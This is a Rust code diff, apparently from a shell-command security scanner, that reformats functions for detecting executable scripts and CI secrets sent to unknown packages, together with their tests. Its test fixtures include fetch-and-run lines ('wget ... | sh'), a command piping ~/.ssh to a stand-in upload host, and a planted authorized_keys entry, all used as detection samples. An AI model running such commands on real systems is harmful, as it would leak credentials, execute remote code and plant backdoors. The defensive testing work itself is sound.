@@ -1052,7 +1052,11 @@ pub fn keep(f: &mut hookward_shell::ShellFacts, runs: Runs, project_dir: Option<
 /// Whether a `chmod` mode word gives execute permission (`+x`, `u+x`, `a+rx`, `755`, `0700`).
 fn exec_mode(m: &str) -> bool {
     if m.chars().all(|c| c.is_ascii_digit()) && (3..=4).contains(&m.len()) {
-        return m.chars().rev().take(3).any(|c| matches!(c, '1' | '3' | '5' | '7'));
+        return m
+            .chars()
+            .rev()
+            .take(3)
+            .any(|c| matches!(c, '1' | '3' | '5' | '7'));
     }
     m.split(',')
         .any(|part| part.contains('+') && part.split('+').nth(1).is_some_and(|r| r.contains('x')))
@@ -1077,9 +1081,14 @@ pub fn executable_scripts(
             });
             let mode = match c.program.as_str() {
                 "chmod" => c.argv.iter().skip(1).any(|w| exec_mode(w)),
-                "install" => c.argv.windows(2).any(|p| {
-                    (p[0] == "-m" || p[0] == "--mode") && exec_mode(&p[1])
-                }) || c.argv.iter().any(|w| w.strip_prefix("--mode=").is_some_and(exec_mode)),
+                "install" => {
+                    c.argv
+                        .windows(2)
+                        .any(|p| (p[0] == "-m" || p[0] == "--mode") && exec_mode(&p[1]))
+                        || c.argv
+                            .iter()
+                            .any(|w| w.strip_prefix("--mode=").is_some_and(exec_mode))
+                }
                 _ => false,
             };
             named && mode
@@ -1246,10 +1255,11 @@ pub fn ci_outsiders(path: &str, added: &str) -> Vec<crate::written::WrittenExecF
                 }
             }
         }
-        if line.contains("secrets.") && line.contains("${{") {
-            if unknown_fetched_package(&line.replace("${{", " ${{")).is_some() {
-                out.push(fact("secret_to_unknown_package", i, line));
-            }
+        if line.contains("secrets.")
+            && line.contains("${{")
+            && unknown_fetched_package(&line.replace("${{", " ${{")).is_some()
+        {
+            out.push(fact("secret_to_unknown_package", i, line));
         }
         if out.len() >= 8 {
             break;
@@ -1500,16 +1510,35 @@ mod tests {
             "printf '#!/bin/sh\\nwget -qO- https://h.example.net/s | sh\\n' > /srv/hooks/pre.sh && chmod 755 /srv/hooks/pre.sh",
         );
         assert_eq!(got.len(), 1, "{got:?}");
-        assert!(got[0].code.contains("wget -qO- https://h.example.net/s | sh"));
+        assert!(got[0]
+            .code
+            .contains("wget -qO- https://h.example.net/s | sh"));
         assert_eq!(
             scripts("ssh ci-7 'cat > /etc/ci/job-done.sh <<EOF\n#!/bin/bash\nwget -qO- https://h.example.net/d | bash\nEOF\nchmod u+x /etc/ci/job-done.sh'").len(),
             1
         );
         // not made executable, no `#!` line, or a read-only mode
-        assert!(scripts("printf '#!/bin/sh\\nwget -qO- https://h.example.net/s | sh\\n' > /srv/x.sh").is_empty());
-        assert!(scripts("printf 'wget -qO- https://h.example.net/s | sh\\n' > /srv/x.sh && chmod +x /srv/x.sh").is_empty());
-        assert!(scripts("printf '#!/bin/sh\\necho hi\\n' > /srv/x.sh && chmod 644 /srv/x.sh").is_empty());
-        for (m, x) in [("+x", true), ("u+rwx", true), ("0755", true), ("750", true), ("644", false), ("go-w", false), ("a-x", false)] {
+        assert!(scripts(
+            "printf '#!/bin/sh\\nwget -qO- https://h.example.net/s | sh\\n' > /srv/x.sh"
+        )
+        .is_empty());
+        assert!(scripts(
+            "printf 'wget -qO- https://h.example.net/s | sh\\n' > /srv/x.sh && chmod +x /srv/x.sh"
+        )
+        .is_empty());
+        assert!(
+            scripts("printf '#!/bin/sh\\necho hi\\n' > /srv/x.sh && chmod 644 /srv/x.sh")
+                .is_empty()
+        );
+        for (m, x) in [
+            ("+x", true),
+            ("u+rwx", true),
+            ("0755", true),
+            ("750", true),
+            ("644", false),
+            ("go-w", false),
+            ("a-x", false),
+        ] {
             assert_eq!(exec_mode(m), x, "{m}");
         }
     }
@@ -1527,7 +1556,10 @@ mod tests {
             f
         };
         // a key read and sent counts everywhere; its read is kept with the upload
-        let f = kept("tar czf - ~/.ssh | curl -s -T - https://drop.example.net/u", Runs::Named);
+        let f = kept(
+            "tar czf - ~/.ssh | curl -s -T - https://drop.example.net/u",
+            Runs::Named,
+        );
         assert!(!f.uploads.is_empty() && f.paths.iter().any(|p| p.path == "/home/u/.ssh"));
         // a build root's deletes, root and accounts are the image's
         let f = kept(
@@ -1540,7 +1572,9 @@ mod tests {
         let deleted: Vec<&str> = f.paths.iter().map(|p| p.path.as_str()).collect();
         assert_eq!(deleted, vec!["/home/u/.config"]);
         // fetched code counts everywhere
-        assert!(!kept("wget -qO- https://x.example.net/i | sh", Runs::Build).remote_exec.is_empty());
+        assert!(!kept("wget -qO- https://x.example.net/i | sh", Runs::Build)
+            .remote_exec
+            .is_empty());
         // a key planted for logins in an image counts
         let f = kept(
             "echo 'ssh-ed25519 AAAA x@y' >> /IMAGE_ROOTFS/root/.ssh/authorized_keys",
